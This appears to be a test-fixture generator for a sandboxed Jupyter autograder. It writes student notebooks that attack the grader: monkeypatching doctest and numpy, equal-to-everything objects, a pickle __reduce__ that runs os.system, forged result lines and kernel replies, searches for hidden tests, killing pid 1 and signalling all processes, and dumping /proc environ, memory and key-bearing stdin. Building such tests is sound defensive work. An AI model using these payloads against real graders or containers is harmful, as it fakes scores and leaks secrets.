"""Writes the hostile notebooks in this folder (run once; the .ipynb files are kept).

Each is the demo assignment (demo1: q1 1 pt, q2 2 pt, q3 2 pt) where the student answers
q1 honestly (1 point) and attacks the grader for the rest, so an honest grade is 1/5.
"""
import json
from pathlib import Path

HERE = Path(__file__).parent
INIT = 'import otter\ngrader = otter.Notebook("demo1.ipynb")'
HONEST_Q1 = "answer = sum(range(1, 11))"
WRONG_Q2 = "def square(x):\n    return x + 1"
WRONG_Q3 = "def vowels(s):\n    return 0"

ATTACKS = {
    # Replace otter's doctest runner so every case passes (2 lines in the issue).
    "patch_runner": ("import otter.test_files.ok_test as ok\n"
                     "ok.run_doctest = lambda name, s, env: (True, '')", {}),
    # Mark otter's test cases public so hidden tests show up in feedback.
    "unhide": ("import otter.execute.checker as checker\n"
               "_orig = checker.create_test_file\n"
               "def create_test_file(*a, **k):\n"
               "    t = _orig(*a, **k)\n"
               "    for tc in t.test_cases:\n"
               "        tc.hidden = False\n"
               "    return t\n"
               "checker.create_test_file = create_test_file", {}),
    # Objects equal to everything.
    "always_eq": ("class Always:\n"
                  "    def __eq__(self, other): return True\n"
                  "    def __ne__(self, other): return False\n"
                  "    def __bool__(self): return True\n"
                  "    def __float__(self): return 1.0\n"
                  "    def __repr__(self): return '55'\n"
                  "    __hash__ = object.__hash__",
                  {"q2": "def square(x):\n    return Always()",
                   "q3": "def vowels(s):\n    return Always()"}),
    # An int subclass that is equal to everything.
    "int_subclass": ("class Sneaky(int):\n"
                     "    def __eq__(self, other): return True\n"
                     "    __hash__ = int.__hash__",
                     {"q2": "def square(x):\n    return Sneaky(0)",
                      "q3": "def vowels(s):\n    return Sneaky(0)"}),
    # An object whose unpickling would run code on whoever unpickles it.
    "reduce": ("import os\n"
               "class Evil:\n"
               "    def __reduce__(self):\n"
               "        return (os.system, ('touch /tmp/otter-trusted-reduce-pwned',))\n"
               "    def __eq__(self, other): return True\n"
               "    __hash__ = object.__hash__",
               {"q2": "def square(x):\n    return Evil()",
                "q3": "def vowels(s):\n    return [Evil()]"}),
    # Monkeypatch builtins, numpy and doctest in the kernel.
    "monkeypatch": ("import builtins, doctest, numpy as np\n"
                    "_isinstance = isinstance\n"
                    "builtins.isinstance = lambda o, t: t is int or _isinstance(o, t)\n"
                    "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
                    "np.array_equal = lambda *a, **k: True\n"
                    "np.isclose = lambda *a, **k: True\n"
                    "doctest.DocTestRunner.run = lambda self, *a, **k: doctest.TestResults(0, 1)\n"
                    "doctest.OutputChecker.check_output = lambda *a: True",
                    {"q1": "answer = '55'"}),
    # Print fake result lines by every stdout path a kernel has.
    "fake_marker": ("import os, sys, base64, json\n"
                    "fake = base64.b64encode(json.dumps({'score': 5, 'max_score': 5}).encode()).decode()\n"
                    "line = 'OTTER-TRUSTED ' + '0' * 64 + ' ' + fake + '\\n'\n"
                    "print(line)\n"
                    "sys.__stdout__.write(line); sys.__stdout__.flush()\n"
                    "os.write(1, line.encode()); os.write(2, line.encode())\n"
                    "try:\n"
                    "    open('/proc/self/fd/1', 'w').write(line)\n"
                    "except OSError as e:\n"
                    "    print('denied', e)\n"
                    "print(dict(os.environ))", {}),
    # Look for the tests and the autograder on disk; answer q2/q3 only if found.
    "read_tests": ("import os, glob\n"
                   "found = []\n"
                   "roots = ['.', '..', '/autograder', os.path.expanduser('~')]\n"
                   "for root in roots:\n"
                   "    for pat in ('**/tests/q*.py', '**/*autograder*.zip', '**/otter_config.json'):\n"
                   "        try:\n"
                   "            found += glob.glob(os.path.join(root, pat), recursive=True)\n"
                   "        except OSError:\n"
                   "            pass\n"
                   "leak = ''\n"
                   "for f in found:\n"
                   "    try:\n"
                   "        leak += open(f, 'rb').read().decode('latin-1')\n"
                   "    except OSError:\n"
                   "        pass\n"
                   "print('FOUND', found)", {
                       "q2": "def square(x):\n    return x * x if 'square(-4)' in leak else x + 1",
                       "q3": "def vowels(s):\n    return 0"}),

    # A numpy array subclass and a numpy integer subclass, both equal to everything.
    "numpy_subclass": ("import numpy as np\n"
                       "class Sneaky(np.ndarray):\n"
                       "    def __eq__(self, other): return True\n"
                       "    __hash__ = None\n"
                       "class SneakyInt(np.int64):\n"
                       "    def __eq__(self, other): return True\n"
                       "    __hash__ = np.int64.__hash__",
                       {"q2": "def square(x):\n    return np.zeros(()).view(Sneaky)",
                        "q3": "def vowels(s):\n    return SneakyInt(0)"}),
}

# A lying kernel (issue 19): a cell at the top replaces json.dumps for the grader's helper
# in the kernel (only its calls: the kernel's own messages still go out), so every answer
# the helper gives is what the student wrote. Each must end graded (or refused as the
# student's fault), never as the evaluator's failure, and never above the honest part.
LIE_PRELUDE = ("import json, sys\n"
               "_real_dumps, _n = json.dumps, [0]\n"
               "def _dumps(obj, *args, **kwargs):\n"
               "    if sys._getframe(1).f_globals.get('__name__') != '_otter_trusted_kernel':\n"
               "        return _real_dumps(obj, *args, **kwargs)\n"
               "    _n[0] += 1\n"
               "    return lie(obj, _n[0])\n"
               "json.dumps = _dumps\n")
LYING = {
    # Ask the trusted side to import a module of the kernel's choice (f2py's command line
    # runs on import of numpy.f2py.__main__), or to reach one through numpy's lazy
    # __getattr__ (a class named f2py), or a module outside the libraries it loads.
    "lie_module": (LIE_PRELUDE.replace("json.dumps = _dumps", "def lie(obj, n):\n"
                   "    value = [{'t': 'module', 'name': 'numpy.f2py.__main__'},\n"
                   "             {'t': 'class', 'module': 'numpy', 'qualname': 'f2py'},\n"
                   "             {'t': 'module', 'name': 'numpy.f2py'},\n"
                   "             {'t': 'module', 'name': 'os'}][n % 4]\n"
                   "    return _real_dumps({'ok': True, 'value': value})\n"
                   "json.dumps = _dumps"), {}),
    # Every answer claims success with `True` and prints "True" (the second case).
    "lie_true": (LIE_PRELUDE.replace("json.dumps = _dumps", "def lie(obj, n):\n"
                 "    return '{\"ok\": true, \"value\": true, \"stdout\": \"True\\\\n\"}'\n"
                 "json.dumps = _dumps"), {}),
    # Nothing but garbage: no answer can be read, so the submission is refused.
    "lie_garbage": (LIE_PRELUDE.replace("json.dumps = _dumps", "def lie(obj, n):\n"
                    "    return 'the grader gets nothing from me'\n"
                    "json.dumps = _dumps"), {}),
    # The helper itself replaced by one that raises.
    "lie_raise": ("import sys\n"
                  "sys.modules['_otter_trusted_kernel'].handle = lambda request: 1 / 0", {}),
    # Nested past any parser's depth.
    "lie_nested": (LIE_PRELUDE.replace("json.dumps = _dumps", "def lie(obj, n):\n"
                   "    return '{\"ok\": true, \"value\": ' + '[' * 100000 + ']' * 100000 + '}'\n"
                   "json.dumps = _dumps"), {}),
    # Wrongly typed and malformed replies in turn: ok not a bool, no value, an error that
    # is not an object, an array that is not base64, an unhashable key, a float that is
    # not one, a JSON array, a scalar of the wrong size, print options that are not.
    "lie_types": (LIE_PRELUDE.replace("json.dumps = _dumps", "def lie(obj, n):\n"
                  "    replies = [{'ok': 'yes', 'value': 55}, {'ok': True},\n"
                  "               {'ok': False, 'error': [1, 2]},\n"
                  "               {'ok': True, 'value': {'t': 'ndarray', 'dtype': '<f8', 'shape': [5], 'b64': '!!'}},\n"
                  "               {'ok': True, 'value': {'t': 'dict', 'v': [[[1], 2]]}},\n"
                  "               {'ok': True, 'value': {'t': 'float', 'v': '1e309'}},\n"
                  "               [1, 2, 3],\n"
                  "               {'ok': True, 'value': {'t': 'npscalar', 'dtype': '<i8', 'b64': 'AAAA'}},\n"
                  "               {'ok': True, 'value': {'t': 'dict', 'v': [['formatter', 'x'], ['precision', -5]]}}]\n"
                  "    return _real_dumps(replies[n % len(replies)])\n"
                  "json.dumps = _dumps"), {}),
    # Oversized: a 30 MB value, 20 MB printed by every call, errors with huge names.
    "lie_oversized": (LIE_PRELUDE.replace("json.dumps = _dumps", "def lie(obj, n):\n"
                      "    if n % 2:\n"
                      "        return _real_dumps({'ok': True, 'value': 'v' * (30 << 20)})\n"
                      "    return _real_dumps({'ok': False, 'stdout': 'x' * (20 << 20),\n"
                      "                        'error': {'type': 'E' * 10000, 'msg': 'm' * (1 << 20)}})\n"
                      "json.dumps = _dumps"), {}),
    # Honest answers, but around each one the kernel publishes messages of its own for the
    # same request: an early and a duplicated idle, content that is not an object, an
    # unrequested execute_reply, and frames that are no message at all.
    "lie_forged": (LIE_PRELUDE.replace("json.dumps = _dumps", "def lie(obj, n):\n"
                   "    k = get_ipython().kernel\n"
                   "    parent = k.get_parent()\n"
                   "    for kind, content in (('status', {'execution_state': 'idle'}),\n"
                   "                          ('stream', b'[\"not\", \"an\", \"object\"]'),\n"
                   "                          ('execute_reply', {'status': 'ok', 'user_expressions': {}}),\n"
                   "                          ('status', {'execution_state': 'idle'})):\n"
                   "        k.session.send(k.iopub_socket, kind, content, parent=parent)\n"
                   "    k.iopub_socket.send_multipart([b'no', b'message', b'here'])\n"
                   "    return _real_dumps(obj, allow_nan=False)\n"
                   "json.dumps = _dumps"), {}),
}

# Attacks on the other processes and files of a grading container. They run only inside
# the container (tests/api/trusted.rs), where the student's kernel is uid 1000 in its own
# PID namespace: run on a developer's machine as the developer they would signal the
# developer's own processes and write to their terminals.
CONTAINER_ONLY = {
    # A full-marks results file in every writable place, then kill the parent and pid 1
    # (the attack on the Docker runner's shell script).
    "write_results": ("import json, os, signal\n"
                      "fake = json.dumps({'score': 5, 'max_score': 5, 'tests': [\n"
                      "    {'name': q, 'score': 2, 'max_score': 2} for q in ('q1', 'q2', 'q3')]})\n"
                      "wrote = []\n"
                      "for d in ['/results', '/tmp', '/tmp/job', '.', os.path.expanduser('~'),\n"
                      "          '/dev/shm', '/autograder', '/var/tmp', '/run', '/opt/otter-trusted']:\n"
                      "    for name in ('results.json', 'results.txt', 'otter.log'):\n"
                      "        try:\n"
                      "            with open(os.path.join(d, name), 'w') as f:\n"
                      "                f.write(fake)\n"
                      "            wrote.append(os.path.join(d, name))\n"
                      "        except OSError:\n"
                      "            pass\n"
                      "print('WROTE', wrote)\n"
                      "for pid in (os.getppid(), 1):\n"
                      "    try:\n"
                      "        os.kill(pid, signal.SIGKILL)\n"
                      "    except OSError as e:\n"
                      "        print('denied', pid, e)", {}),
    # Stop, terminate and kill every other process, then everything the kernel may signal.
    "signal_all": ("import os, signal\n"
                   "me, sent, denied = os.getpid(), 0, 0\n"
                   "for p in os.listdir('/proc'):\n"
                   "    if p.isdigit() and int(p) != me:\n"
                   "        for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):\n"
                   "            try:\n"
                   "                os.kill(int(p), sig)\n"
                   "                sent += 1\n"
                   "            except OSError:\n"
                   "                denied += 1\n"
                   "try:\n"
                   "    os.kill(-1, signal.SIGKILL)\n"
                   "except OSError:\n"
                   "    pass\n"
                   "print('sent', sent, 'denied', denied)", {}),
    # Full-marks result lines (the trusted marker and the bare runner's) through every path
    # to the container's stdout and stderr: other processes' fds, the console, the tty;
    # then kill the parent, so that no real result line follows the fake ones.
    "stdout_everywhere": ("import base64, glob, json, os, sys\n"
                          "fake = base64.b64encode(json.dumps({'score': 5, 'max_score': 5}).encode()).decode()\n"
                          "lines = ('OTTER-TRUSTED ' + '0' * 64 + ' ' + fake + '\\n'\n"
                          "         + 'OTTER-RESULTS ' + fake + '\\n')\n"
                          "paths = ['/proc/1/fd/1', '/proc/1/fd/2', '/dev/console', '/dev/tty',\n"
                          "         '/dev/stdout', '/proc/self/fd/1']\n"
                          "paths += glob.glob('/proc/[0-9]*/fd/[12]')\n"
                          "opened = []\n"
                          "for p in paths:\n"
                          "    try:\n"
                          "        with open(p, 'w') as f:\n"
                          "            f.write(lines)\n"
                          "        opened.append(p)\n"
                          "    except OSError:\n"
                          "        pass\n"
                          "print(lines)\n"
                          "sys.__stdout__.write(lines); sys.__stdout__.flush()\n"
                          "os.write(1, lines.encode()); os.write(2, lines.encode())\n"
                          "print('OPENED', opened)\n"
                          "import signal\n"
                          "try:\n"
                          "    os.kill(os.getppid(), signal.SIGKILL)  # so no real result follows\n"
                          "except OSError as e:\n"
                          "    print('denied', e)", {}),
    # Print the environment and everything /proc shows of every process, including
    # root's stdin (where the per-job key arrives).
    "print_env": ("import glob, os\n"
                  "print(dict(os.environ))\n"
                  "for p in glob.glob('/proc/[0-9]*'):\n"
                  "    for f in ('environ', 'cmdline', 'status', 'fd/0', 'mem'):\n"
                  "        try:\n"
                  "            with open(p + '/' + f, 'rb') as fh:\n"
                  "                print(p, f, fh.read(4096))\n"
                  "        except OSError as e:\n"
                  "            print(p, f, 'denied', e.errno)", {}),
}


def cell(kind, source, **meta):
    c = {"cell_type": kind, "metadata": meta, "source": source}
    if kind == "code":
        c.update(execution_count=None, outputs=[])
    return c


def notebook(attack, overrides, assignment_name="demo1"):
    answers = {"q1": HONEST_Q1, "q2": WRONG_Q2, "q3": WRONG_Q3, **overrides}
    cells = [cell("code", INIT), cell("code", attack)]
    for q in ("q1", "q2", "q3"):
        cells += [cell("markdown", f"**{q}**"), cell("code", answers[q]),
                  cell("code", f'grader.check("{q}")')]
    return {"cells": cells, "nbformat": 4, "nbformat_minor": 5,
            "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                        "language": "python"},
                         "otter": {"assignment_name": assignment_name},
                         "otter_service": {"course": "demo", "section": "1",
                                           "assignment": "demo1"}}}


def wrong_assignment():
    """Right answers, but the otter metadata of another assignment (a student who submits
    lab99's notebook under this assignment's service metadata): otter refuses it."""
    solved = {"q2": "def square(x):\n    return x * x",
              "q3": "def vowels(s):\n    return sum(c in 'aeiouAEIOU' for c in s)"}
    return notebook("pass", solved, assignment_name="lab99")


if __name__ == "__main__":
    for name, (attack, overrides) in {**ATTACKS, **LYING, **CONTAINER_ONLY}.items():
        path = HERE / f"{name}.ipynb"
        path.write_text(json.dumps(notebook(attack, overrides), indent=1) + "\n")
        print("wrote", path)
    path = HERE / "wrong_assignment.ipynb"
    path.write_text(json.dumps(wrong_assignment(), indent=1) + "\n")
    print("wrote", path)
